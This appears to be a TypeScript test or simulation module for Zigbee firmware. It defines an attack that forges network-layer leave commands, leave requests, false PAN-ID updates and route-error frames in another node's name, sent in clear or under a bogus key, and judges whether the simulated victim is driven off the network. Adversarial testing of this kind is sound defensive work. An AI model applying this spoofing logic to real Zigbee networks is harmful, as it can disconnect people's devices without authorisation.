// Network commands in others' names: a leave, an order to leave, another PAN identifier, a route
// error; in clear, or under a key that is none. It succeeds when the hub lets the member go, or the
// member leaves or follows to the other PAN.

import { Operation } from "../../firmware/ipc/operation";
import {
  COORDINATOR,
  LeaveOption,
  NwkBroadcast,
  NwkCommand,
  NwkType,
} from "../devices/zigbee/nwk-frame";
import { OctetWriter } from "../devices/zigbee/octets";
import { Attack } from "./attack";
import { sayForged } from "./forge";
import type { Victim } from "./scene";

const WAIT_US = 2_000_000;
const FALSE_PAN = 0x6666;

export class ForgedCommand extends Attack {
  readonly kind = "forged-command";

  attempt(): void {
    const victim = this.scene.member();
    const network = victim?.node.memory.network;
    if (victim === undefined || network === undefined) return;
    const sinceUs = this.scene.world.now;
    const { leavesTaken } = victim.node;
    this.speak(victim, network.extendedPanId);
    this.judge(WAIT_US, () => {
      if (this.scene.count(Operation.JOIN_STORED, sinceUs, victim.node.eui64) > 0) return true;
      if (victim.node.leavesTaken > leavesTaken) return true;
      return victim.node.memory.network?.panId === FALSE_PAN;
    });
  }

  private speak({ node }: Victim, extendedPanId: bigint): void {
    const { random } = this.scene;
    const isToHub = random.chance(0.5);
    const eui64 = isToHub ? node.eui64 : this.scene.hubEui64;
    const frame = {
      type: NwkType.COMMAND,
      source: isToHub ? node.short : COORDINATOR,
      destination: isToHub ? COORDINATOR : node.short,
      sourceEui64: eui64,
    };
    const leave = Buffer.from([NwkCommand.LEAVE, isToHub ? 0 : LeaveOption.REQUEST]);
    switch (random.below(4)) {
      case 0:
        sayForged(this.scene, { ...frame, payload: leave });
        return;
      case 1: {
        const key = Buffer.alloc(16, random.below(256));
        const frameCounter = 0x7fff_0000 + random.below(0xffff);
        const security = { key, keySequence: 0, frameCounter, eui64 };
        sayForged(this.scene, { ...frame, payload: leave }, security);
        return;
      }
      case 2: {
        const payload = new OctetWriter(13)
          .u8(NwkCommand.UPDATE)
          .u8(1)
          .u64(extendedPanId)
          .u8(random.below(256))
          .u16(FALSE_PAN)
          .done();
        sayForged(this.scene, { ...frame, destination: NwkBroadcast.ALL, payload });
        return;
      }
      default: {
        const NO_ROUTE = 0;
        const payload = new OctetWriter(4)
          .u8(NwkCommand.STATUS)
          .u8(NO_ROUTE)
          .u16(isToHub ? COORDINATOR : node.short)
          .done();
        sayForged(this.scene, { ...frame, payload });
      }
    }
  }
}
